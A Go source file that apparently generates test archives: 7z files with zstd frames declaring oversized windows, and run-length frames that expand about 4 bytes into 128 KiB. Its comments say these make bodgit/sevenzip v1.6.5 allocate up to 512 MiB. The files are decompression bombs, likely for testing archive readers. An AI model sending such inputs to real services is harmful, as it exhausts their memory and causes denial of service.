package archivegen

import "math/bits"

// Method IDs of the 7-Zip codec plugins that bodgit/sevenzip reads
// besides 7-Zip's own (the zstd and brotli IDs of 7-Zip ZS).
var (
	sevenZipZstd   = []byte{0x04, 0xf7, 0x11, 0x01}
	sevenZipBrotli = []byte{0x04, 0xf7, 0x11, 0x02}
	sevenZipLZ4    = []byte{0x04, 0xf7, 0x11, 0x04}
)

// SevenZipCoded returns a 7z archive of one file, name, of size bytes,
// whose packed stream is packed, decoded by one coder of method ID method
// with properties props (nil for none). Checksums of the headers are right;
// the file's own CRC is not recorded, so a reader checks none.
func SevenZipCoded(name string, method, props, packed []byte, size uint64) []byte {
	c := sevenZipCoder{id: method, props: props}
	h := sevenZipOneFile(name, uint64(len(packed)), size, c, 1)
	return sevenZipArchive(packed, h, false)
}

// ZstdFrameWindow returns a zstd frame of one raw block holding
// SevenZipBombPayload whose header declares a window of window bytes,
// rounded up to a power of two of at least 1 KiB (the Window_Descriptor's
// exponent; no content size is given). A decoder sizes its history
// buffer from that one byte.
func ZstdFrameWindow(window uint32) []byte {
	exp := max(bits.Len32(window-1), 10) - 10
	b := []byte{0x28, 0xb5, 0x2f, 0xfd}
	b = append(b, 0x00)         // no content size, not single segment, no checksum
	b = append(b, byte(exp)<<3) // Window_Descriptor: exponent, mantissa 0
	p := []byte(SevenZipBombPayload)
	bh := uint32(1) | uint32(len(p))<<3 // last block, raw
	b = append(b, byte(bh), byte(bh>>8), byte(bh>>16))
	return append(b, p...)
}

// SevenZipZstdWindow returns a 7z archive of about 90 bytes with one file
// in a zstd folder whose frame declares a window of window bytes
// (ZstdFrameWindow). bodgit/sevenzip v1.6.5 builds its zstd decoder with
// the library's defaults, which admit a window of 512 MiB and allocate it
// when the first block is decoded.
func SevenZipZstdWindow(window uint32) []byte {
	return SevenZipCoded("a.txt", sevenZipZstd, nil, ZstdFrameWindow(window), uint64(len(SevenZipBombPayload)))
}

// ZstdFrameRLE returns a zstd frame declaring a window as ZstdFrameWindow
// does, followed by blocks run-length blocks of 128 KiB of 'A' each: four
// bytes a block, so a decoder writes blocks×128 KiB into its history, the
// whole window when blocks×128 KiB reaches it.
func ZstdFrameRLE(window uint32, blocks int) []byte {
	b := ZstdFrameWindow(window)[:6]
	for i := range blocks {
		bh := uint32(1<<1) | uint32(128<<10)<<3 // run-length, 128 KiB
		if i == blocks-1 {
			bh |= 1 // last block
		}
		b = append(b, byte(bh), byte(bh>>8), byte(bh>>16), 'A')
	}
	return b
}

// SevenZipZstdRLE returns a 7z archive of one file of blocks×128 KiB of
// 'A' in a zstd folder whose frame declares a window of window bytes
// (ZstdFrameRLE): about 4 bytes per 128 KiB, and a decoder that trusts the
// window fills it.
func SevenZipZstdRLE(window uint32, blocks int) []byte {
	return SevenZipCoded("a.txt", sevenZipZstd, nil, ZstdFrameRLE(window, blocks), uint64(blocks)<<17)
}
